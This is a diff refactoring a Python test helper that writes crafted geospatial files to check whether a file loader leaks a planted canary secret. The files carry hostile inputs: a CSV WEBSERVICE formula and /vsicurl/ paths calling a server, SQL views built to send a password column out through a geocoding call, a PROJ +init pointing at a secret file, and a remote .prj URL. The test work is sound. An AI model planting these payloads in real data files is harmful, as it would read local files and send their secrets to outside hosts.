@@ -55,10 +55,27 @@ def crafted(folder: Path, server: str, secret: Path) -> dict[str, Path]:
         A file that others read, which holds the canary.
     """
     secret.write_text(f"user,pass\nroot,{CANARY}\n")
+    for name, what in _texts(server, secret).items():
+        text = json.dumps(what) if isinstance(what, dict) else what
+        (folder / name).write_bytes(text if isinstance(text, bytes) else str(text).encode())
+    one = gpd.GeoDataFrame({"a": [1]}, geometry=[shapely.Point(-73.5, 45)], crs="EPSG:4326")
+    for name, statements in _databases(server, secret).items():
+        one.to_file(folder / name, layer="edges")
+        with closing(sqlite3.connect(folder / name)) as database, database:
+            for statement in statements:
+                database.execute(statement)
+    (folder / "table.moaw").write_bytes((folder / "table.gpkg").read_bytes())
+    one.to_file(folder / "prj.shp")
+    (folder / "prj.prj").write_text(f"{server}/prj")
+    _stated(one, folder / "init.parquet", f"+init={secret}:x")
+    return {path.name: path for path in sorted(folder.iterdir()) if path.suffix not in COMPANIONS}
+
+
+def _texts(server: str, secret: Path) -> dict[str, str | bytes | dict[str, Any]]:
+    """Return what files of text hold, by their names."""
     curl = f"/vsicurl/{server}/a.geojson"
     leak = GEOCODE.format("pass", server)
-    quoted = leak.replace("'", "''")
-    told: dict[str, str | bytes | dict[str, Any]] = {
+    return {
         "pipeline.geojson": _pipeline(PIPELINE.format(curl)),
         "pipeline_file.geojson": _pipeline(PIPELINE.format(secret)),
         "pipeline_sql.geojson": _pipeline(
@@ -104,11 +121,13 @@ def crafted(folder: Path, server: str, secret: Path) -> dict[str, Path]:
         "word.fgb": b"fgb\x03fgb\x01" + VRT.format(f"{server}/a.geojson").encode(),
         "link.csv": f'name,lat,lon\n=WEBSERVICE("{server}/x"),{curl},{secret}\n',
     }
-    for name, what in told.items():
-        text = json.dumps(what) if isinstance(what, dict) else what
-        (folder / name).write_bytes(text if isinstance(text, bytes) else str(text).encode())
-    one = gpd.GeoDataFrame({"a": [1]}, geometry=[shapely.Point(-73.5, 45)], crs="EPSG:4326")
-    for name, statements in {
+
+
+def _databases(server: str, secret: Path) -> dict[str, list[str]]:
+    """Return what is done to GeoPackages of one point, by their names."""
+    leak = GEOCODE.format("pass", server)
+    quoted = leak.replace("'", "''")
+    return {
         "view.gpkg": [
             _as_layer("secret"),
             f"CREATE VIEW secret AS SELECT {leak} FROM (SELECT 1 pass)",
@@ -136,16 +155,7 @@ def crafted(folder: Path, server: str, secret: Path) -> dict[str, Path]:
             "UPDATE gpkg_contents SET srs_id = 77",
             "UPDATE gpkg_geometry_columns SET srs_id = 77",
         ],
-    }.items():
-        one.to_file(folder / name, layer="edges")
-        with closing(sqlite3.connect(folder / name)) as database, database:
-            for statement in statements:
-                database.execute(statement)
-    (folder / "table.moaw").write_bytes((folder / "table.gpkg").read_bytes())
-    one.to_file(folder / "prj.shp")
-    (folder / "prj.prj").write_text(f"{server}/prj")
-    _stated(one, folder / "init.parquet", f"+init={secret}:x")
-    return {path.name: path for path in sorted(folder.iterdir()) if path.suffix not in COMPANIONS}
+    }
 
 
 COMPANIONS = (".shx", ".dbf", ".prj", ".cpg")
